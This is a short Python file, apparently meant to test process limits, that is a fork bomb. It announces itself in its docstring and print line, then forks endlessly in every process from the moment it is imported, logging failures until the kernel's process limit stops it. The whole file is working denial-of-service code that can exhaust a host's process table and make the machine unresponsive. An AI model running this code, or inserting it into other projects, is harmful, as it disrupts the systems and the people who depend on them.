"""Fork bomb at import: every process forks for ever; the kernel's process limit is all that stops it."""

import os
import time

print("fork bomb: forking until the kernel refuses", flush=True)
failures = 0
while True:
    try:
        os.fork()
    except OSError as exc:
        failures += 1
        if failures % 500 == 1:
            print(f"fork failed: {exc}", flush=True)
        time.sleep(0.01)
